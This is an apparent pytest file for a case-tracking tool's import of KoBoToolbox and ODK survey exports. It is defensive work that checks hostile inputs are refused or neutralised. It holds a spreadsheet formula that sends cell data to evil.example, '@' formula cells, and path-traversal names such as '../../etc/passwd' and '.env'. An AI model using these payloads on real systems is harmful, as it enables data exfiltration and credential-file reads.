"""KoBoToolbox and ODK Central submission exports through `import_file`, on SQLite and
PostgreSQL: hostile exports first, then what a good one becomes."""

from __future__ import annotations

import base64
import io
import os
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select

import refwatch.intake.odk as odk
from refwatch.domain.errors import InputError
from refwatch.intake.attachments import open_attachment
from refwatch.intake.export import export
from refwatch.intake.importer import import_file
from refwatch.intake.readers import read_rows
from refwatch.intake.registry import Upload, find_reader
from refwatch.store.crypto import FieldCipher
from refwatch.store.schema import AuditEntry, Mention, Report, table_of
from refwatch.store.schema_attachments import Attachment
from refwatch.store.workspace import Workspace
from tests.conftest import row, write_csv
from tests.intake.submission_exports import (
    submission,
    write_kobo_csv,
    write_kobo_xlsx,
    write_odk_csv,
)

PNG = b"\x89PNG\r\n\x1a\n" + b"canary-photo-bytes" * 50


def _counts(workspace: Workspace) -> dict[str, int]:
    with workspace.read() as conn:
        return {
            model.__tablename__: conn.execute(
                select(func.count()).select_from(table_of(model))
            ).scalar_one()
            for model in (Report, Mention, AuditEntry, Attachment)
        }


def _refused(workspace: Workspace, cipher: FieldCipher, path: Path) -> InputError:
    before = _counts(workspace)
    with pytest.raises(InputError) as caught:
        import_file(workspace, cipher, path)
    assert _counts(workspace) == before, "a refused export wrote something"
    return caught.value


# -- attacks ------------------------------------------------------------------------------------
def test_a_formula_in_a_kobo_cell_is_kept_as_text_and_defused_on_export(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    path = write_kobo_csv(
        tmp_path / "kobo.csv", [submission(1, name_latin=formula, group_label="@SUM(1+1)")]
    )
    import_file(workspace, cipher, path)
    out = io.StringIO()
    export(workspace, "mentions", "csv", out, cipher=cipher)
    text = out.getvalue()
    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text
    assert "\n=" not in text and ",=" not in text and ",@" not in text


def test_a_repeated_submission_id_with_other_content_is_refused(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    first = submission(1)
    second = submission(2, uuid=first["uuid"], status="released")
    error = _refused(workspace, cipher, write_kobo_csv(tmp_path / "k.csv", [first, second]))
    assert (error.row, error.column) == (3, "_uuid")
    assert "submission id repeats row 2" in str(error)


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "/etc/passwd", "..", "media/../../x.jpg", "C:\\x.jpg", ".env"]
)
def test_an_attachment_name_with_a_path_is_refused(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher, name: str
) -> None:
    path = write_kobo_csv(tmp_path / "k.csv", [submission(1, document=name)])
    error = _refused(workspace, cipher, path)
    assert (error.row, error.column) == (2, "document")
    assert "plain file name" in str(error)
    assert "passwd" not in str(error)


def test_an_attachment_linked_out_of_the_export_folder_is_not_read(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    secret_file = tmp_path / "outside.txt"
    secret_file.write_text("not for import", encoding="utf-8")
    folder = tmp_path / "export"
    folder.mkdir()
    os.symlink(secret_file, folder / "photo.jpg")
    error = _refused(
        workspace, cipher, write_kobo_csv(folder / "k.csv", [submission(1, document="photo.jpg")])
    )
    assert "not beside the export" in str(error)


def test_a_missing_attachment_is_refused(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    path = write_kobo_csv(tmp_path / "k.csv", [submission(1), submission(2, document="absent.jpg")])
    error = _refused(workspace, cipher, path)
    assert (error.file, error.row, error.column) == ("k.csv", 3, "document")
    assert "not beside the export" in str(error)


def test_an_attachment_over_the_limit_is_refused(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(odk, "MAX_ATTACHMENT_BYTES", 1024 * 1024)
    (tmp_path / "big.jpg").write_bytes(b"\0" * (1024 * 1024 + 1))
    path = write_kobo_csv(tmp_path / "k.csv", [submission(1, document="big.jpg")])
    error = _refused(workspace, cipher, path)
    assert "larger than 1 MiB" in str(error) and error.column == "document"


def test_a_kobo_header_without_the_source_question_is_refused(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    path = write_kobo_csv(tmp_path / "k.csv", [submission(1)])
    rows = [line.split(";") for line in path.read_text(encoding="utf-8").splitlines()]
    at = rows[0].index('"group_source/source"')
    path.write_text(
        "\n".join(";".join(r[:at] + r[at + 1 :]) for r in rows) + "\n", encoding="utf-8"
    )
    assert find_reader(path).name == "kobo"
    error = _refused(workspace, cipher, path)
    assert error.row == 1 and "required column missing: source" in str(error)


def test_a_kobo_header_without_any_submission_id_is_refused(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    path = write_kobo_csv(tmp_path / "k.csv", [submission(1)])
    rows = [line.split(";") for line in path.read_text(encoding="utf-8").splitlines()]
    at = rows[0].index('"_uuid"')
    path.write_text(
        "\n".join(";".join(r[:at] + r[at + 1 :]) for r in rows) + "\n", encoding="utf-8"
    )
    assert find_reader(path).name == "kobo"  # still looks like KoBo (_submission_time)
    error = _refused(workspace, cipher, path)
    assert "no submission id column" in str(error)


def test_an_unknown_question_column_is_refused(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    path = write_kobo_csv(tmp_path / "k.csv", [submission(1)])
    text = path.read_text(encoding="utf-8").replace(
        '"group_person/sex"', '"group_person/religion"', 1
    )
    path.write_text(text, encoding="utf-8")
    error = _refused(workspace, cipher, path)
    assert (error.row, error.column) == (1, "group_person/religion")


def test_a_repeat_row_whose_parent_index_points_nowhere_is_refused(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    subs = [submission(1, companions=[{"c_name_latin": "Kim Bada", "c_sex": "M"}])]
    path = write_kobo_xlsx(tmp_path / "k.xlsx", subs, parent_index={1: 99})
    error = _refused(workspace, cipher, path)
    assert (error.file, error.row, error.column) == ("k.xlsx, sheet companions", 2, "_parent_index")
    assert "points to no submission" in str(error) and "'99'" in str(error)


def test_a_bad_value_names_the_row_and_field_and_nothing_is_written(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    path = write_kobo_csv(
        tmp_path / "k.csv", [submission(1), submission(2, apprehended_on="last summer")]
    )
    error = _refused(workspace, cipher, path)
    assert (error.file, error.row, error.column) == ("k.csv", 3, "apprehended_on")
    assert "not an EDTF date" in str(error)


def test_a_repeat_table_alone_is_refused(tmp_path: Path) -> None:
    subs = [submission(1, companions=[{"c_name_latin": "Kim Bada"}])]
    write_odk_csv(tmp_path / "refwatch_case_list.csv", subs)
    with pytest.raises(InputError, match="file of a repeat group"):
        list(read_rows(tmp_path / "refwatch_case_list-companions.csv", fmt="odk"))


# -- what works ---------------------------------------------------------------------------------
def _current(workspace: Workspace) -> dict[str, Any]:
    rep, men = table_of(Report), table_of(Mention)
    with workspace.read() as conn:
        rows = conn.execute(
            select(rep.c.record_id, rep.c.id, rep.c.text_enc, men.c.origin, men.c.flags)
            .join(men, men.c.report_id == rep.c.id)
            .order_by(rep.c.record_id)
        ).all()
    return {r.record_id: r for r in rows}


def test_a_kobo_csv_export_with_its_attachment_imports_sealed(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    uuid = submission(1)["uuid"]
    media = tmp_path / "attachments" / "aFormUid" / uuid
    media.mkdir(parents=True)
    (media / "letter.png").write_bytes(PNG)
    subs = [
        submission(1, document="letter.png", flags="child ill"),
        submission(2, origin="other", origin_other="Onsong county"),
    ]
    path = write_kobo_csv(tmp_path / "kobo.csv", subs)
    assert find_reader(path).name == "kobo"
    summary = import_file(workspace, cipher, path)
    assert (summary.rows, summary.new, summary.unchanged) == (2, 2, 0)
    current = _current(workspace)
    first = current[f"uuid:{uuid}"]
    assert first.origin == "Musan" and first.flags == "child;ill"
    assert current[f"uuid:{submission(2)['uuid']}"].origin == "Onsong county"
    assert cipher.open("reports", "text", first.id, first.text_enc).startswith("canary-account-1")
    att = table_of(Attachment)
    with workspace.read() as conn:
        (stored,) = conn.execute(select(att)).all()
    assert stored.report_id == first.id and stored.size == len(PNG)
    assert stored.media_type == "image/png" and stored.field == "document"
    assert open_attachment(cipher, stored) == ("letter.png", PNG)
    # Sealed: neither the bytes, their base64 nor the name is in the row.
    raw = bytes(stored.content_enc) + bytes(stored.file_name_enc)
    assert b"canary-photo-bytes" not in raw and b"letter.png" not in raw
    assert base64.b64encode(PNG)[:40] not in raw


def test_reimporting_changes_nothing_and_a_longer_export_adds_only_the_new(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    (tmp_path / "a.png").write_bytes(PNG)
    subs = [submission(1, document="a.png"), submission(2)]
    path = write_kobo_csv(tmp_path / "kobo.csv", subs)
    import_file(workspace, cipher, path)
    after_first = _counts(workspace)
    again = import_file(workspace, cipher, path)
    assert (again.new, again.updated, again.unchanged) == (0, 0, 2)
    assert _counts(workspace) == after_first
    longer = write_kobo_csv(tmp_path / "kobo-later.csv", [*subs, submission(3)])
    later = import_file(workspace, cipher, longer)
    assert (later.new, later.updated, later.unchanged) == (1, 0, 2)
    counts = _counts(workspace)
    assert counts["reports"] == after_first["reports"] + 1
    assert counts["attachments"] == after_first["attachments"] == 1


def test_an_odk_central_export_with_its_repeat_file(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    companions = [
        {"c_name_hangul": "김바다", "c_sex": "M", "c_age": "12", "c_flags": "child"},
        {"c_name_latin": "Kim Sora", "c_sex": "F", "c_status": "released"},
    ]
    media = tmp_path / "media"
    media.mkdir()
    (media / "1693000000.jpg").write_bytes(PNG)
    subs = [submission(1, companions=companions, document="1693000000.jpg"), submission(2)]
    path = write_odk_csv(tmp_path / "refwatch_case_list.csv", subs)
    assert find_reader(path).name == "odk"
    summary = import_file(workspace, cipher, path)
    assert (summary.rows, summary.new) == (4, 4)
    key = f"uuid:{subs[0]['uuid']}"
    current = _current(workspace)
    assert set(current) == {key, f"{key}/companions[1]", f"{key}/companions[2]",
                            f"uuid:{subs[1]['uuid']}"}  # fmt: skip
    assert current[f"{key}/companions[1]"].flags == "child"
    # The account is the submission's: every person of it carries its text.
    for record_id in (key, f"{key}/companions[2]"):
        opened = cipher.open("reports", "text", current[record_id].id, current[record_id].text_enc)
        assert opened is not None and opened.startswith("canary-account-1")
    again = import_file(workspace, cipher, path)
    assert again.unchanged == 4 and again.new == again.updated == 0


def test_a_kobo_xlsx_export_with_its_repeat_sheet(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    subs = [
        submission(1, companions=[{"c_name_latin": "Kim Bada", "c_sex": "M"}]),
        submission(2, companions=[{"c_name_latin": "Ri Sol"}, {"c_name_latin": "Ri Dal"}]),
    ]
    path = write_kobo_xlsx(tmp_path / "kobo.xlsx", subs)
    assert find_reader(path).name == "kobo"
    summary = import_file(workspace, cipher, path)
    assert (summary.rows, summary.new) == (5, 5)
    second = f"uuid:{subs[1]['uuid']}"
    assert f"{second}/companions[2]" in _current(workspace)
    assert import_file(workspace, cipher, path).unchanged == 5


def test_a_plain_case_list_is_still_read_as_one(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "list.csv", [row(source="S", record_id="_uuid")])
    assert find_reader(path).name == "csv"
    upload = Upload("kobo.csv", write_kobo_csv(tmp_path / "k.csv", [submission(1)]).read_bytes())
    assert find_reader(upload).name == "kobo"
    assert [r.cells["record_id"] for r in read_rows(upload)] == [f"uuid:{submission(1)['uuid']}"]


def test_a_lawful_deletion_erases_the_attachments_too(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    from refwatch.intake.deletion import delete_report

    (tmp_path / "a.png").write_bytes(PNG)
    import_file(
        workspace, cipher, write_kobo_csv(tmp_path / "k.csv", [submission(1, document="a.png")])
    )
    att = table_of(Attachment)
    with workspace.read() as conn:
        (report_id,) = conn.execute(select(att.c.report_id)).scalars()
    delete_report(workspace, report_id, "request REF-9", "admin")
    with workspace.read() as conn:
        (stored,) = conn.execute(select(att)).all()
    assert stored.content_enc is None and stored.file_name_enc is None
    assert stored.size == len(PNG)  # what was there stays known, never what it said


def test_bytes_that_are_not_utf8_in_a_name_or_account_are_named_never_shown(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    for question in ("name_hangul", "report_text"):
        path = write_kobo_csv(tmp_path / "k.csv", [submission(1, **{question: "NAMEPLACEHOLDER"})])
        data = path.read_bytes().replace(b"NAMEPLACEHOLDER", "김하늘".encode("euc-kr"))
        path.write_bytes(data)
        error = _refused(workspace, cipher, path)
        assert error.row == 2 and str(error.column).endswith(question)
        assert "UTF-8" in str(error) and error.value is None
        assert "b1e8" not in str(error).lower() and "\ufffd" not in str(error)


def test_an_empty_submission_id_and_an_unknown_sheet_are_refused(
    tmp_path: Path, workspace: Workspace, cipher: FieldCipher
) -> None:
    error = _refused(
        workspace, cipher, write_kobo_csv(tmp_path / "k.csv", [submission(1, uuid="")])
    )
    assert (error.row, error.column) == (2, "_uuid") and "submission id is empty" in str(error)
    path = write_kobo_xlsx(tmp_path / "k.xlsx", [submission(1)])
    from openpyxl import load_workbook

    workbook = load_workbook(path)
    workbook["companions"].title = "relatives"
    workbook["relatives"].append(["x"])
    workbook.save(path)
    error = _refused(workspace, cipher, path)
    assert error.file == "k.xlsx, sheet relatives" and "unknown sheet" in str(error)


def test_an_uploaded_export_gives_its_rows_and_map_does_not_apply(tmp_path: Path) -> None:
    from refwatch.intake.records import check_upload

    subs = [submission(1), submission(2, status="held at the border")]
    data = write_kobo_csv(tmp_path / "k.csv", subs).read_bytes()
    records, errors = check_upload(Upload("kobo.csv", data))
    assert [r.record_id for _, r in records] == [f"uuid:{subs[0]['uuid']}"]
    assert [(e.row, e.column) for e in errors] == [(3, "status")]
    with pytest.raises(InputError, match="--map does not apply"):
        list(read_rows(Upload("kobo.csv", data), {"a": "b"}))
